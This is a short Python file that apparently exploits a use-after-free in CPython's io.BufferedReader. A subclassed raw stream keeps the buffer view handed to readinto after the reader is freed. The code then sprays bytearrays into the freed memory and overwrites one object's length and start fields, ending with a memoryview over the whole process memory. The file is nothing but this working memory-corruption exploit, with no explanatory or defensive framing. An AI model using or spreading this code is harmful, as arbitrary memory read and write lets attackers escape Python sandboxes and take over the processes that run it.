# A view that reaches all of the process's memory, kept from a buffer that was freed.
import io


class Raw(io.RawIOBase):
    def readable(self):
        return True

    def readinto(self, view):
        self.kept = view
        return 0


def all_memory():
    raw = Raw()
    reader = io.BufferedReader(raw, 56)
    reader.read(1)
    view = raw.kept.cast("B")
    del reader
    arrays = [bytearray(1) for _ in range(200)]
    if bytes(view[8:16]) != id(bytearray).to_bytes(8, "little"):
        return None
    view[16:24] = view[24:32] = (1 << 62).to_bytes(8, "little")
    view[32:40] = view[40:48] = bytes(8)
    found = next(a for a in arrays if len(a) == 1 << 62)
    return memoryview(found)
